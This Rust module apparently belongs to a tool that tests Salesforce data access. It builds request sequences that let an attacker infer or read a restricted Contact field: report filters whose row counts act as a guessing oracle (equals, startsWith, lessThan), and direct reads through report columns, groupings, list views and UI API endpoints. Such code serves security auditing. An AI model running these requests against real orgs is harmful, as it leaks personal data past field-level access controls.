//! The attacker's ways through stored queries and the User Interface API.

use serde_json::{Value as Json, json};

use super::{Guess, Question, Request, Victim, get, sent};

/// A report over contacts, and the list view that shows every field of them.
const REPORT: &str = "/analytics/reports/00O5g00000000R1EAI?includeDetails=true";
const VIEW: &str = "/sobjects/Contact/listviews/00B5g00000000A1EAI";

/// The report, run with these filters besides the record's id.
fn run(id: &str, mut metadata: Json, filter: Option<Json>) -> Vec<Request> {
    let mut filters = vec![json!({"column": "Contact.Id", "operator": "equals", "value": id})];
    filters.extend(filter);
    metadata["reportFilters"] = filters.into();
    let body = json!({ "reportMetadata": metadata });
    vec![sent("POST", REPORT, &body)]
}

impl Victim {
    /// Filters of a report, whose number of rows says how they went.
    pub(super) fn stored(&self) -> Vec<Question> {
        [
            ("report equals", Guess::Equal, "equals"),
            ("report startsWith", Guess::Prefix, "startsWith"),
            ("report lessThan", Guess::Below, "lessThan"),
        ]
        .into_iter()
        .map(|(name, guess, operator)| {
            let (column, id) = (format!("Contact.{}", self.field), self.id.clone());
            Question {
                name: name.to_owned(),
                guess,
                statuses: false,
                ask: Box::new(move |g| {
                    let metadata =
                        json!({"detailColumns": ["Contact.Id"], "aggregates": ["RowCount"]});
                    let filter = json!({"column": column, "operator": operator, "value": g});
                    run(&id, metadata, Some(filter))
                }),
            }
        })
        .collect()
    }

    /// What shows a record without a query.
    pub(super) fn stored_reads(&self) -> Vec<(&'static str, Vec<Request>)> {
        let Self { field, id, .. } = self;
        let column = format!("Contact.{field}");
        let shown = json!({"detailColumns": [column], "aggregates": []});
        let grouped = json!({"detailColumns": ["Contact.Id"], "aggregates": ["RowCount"], "reportFormat": "SUMMARY",
            "groupingsDown": [{"name": column, "dateGranularity": "None", "sortOrder": "Asc"}]});
        vec![
            ("column of a report", run(id, shown, None)),
            ("group of a report", run(id, grouped, None)),
            (
                "list view",
                vec![get(&format!("{VIEW}/results?limit=2000"))],
            ),
            (
                "record of the UI API",
                vec![get(&format!("/ui-api/records/{id}?fields={column}"))],
            ),
            (
                "records of the UI API",
                vec![get(&format!(
                    "/ui-api/records/batch/{id}?optionalFields={column}"
                ))],
            ),
        ]
    }
}
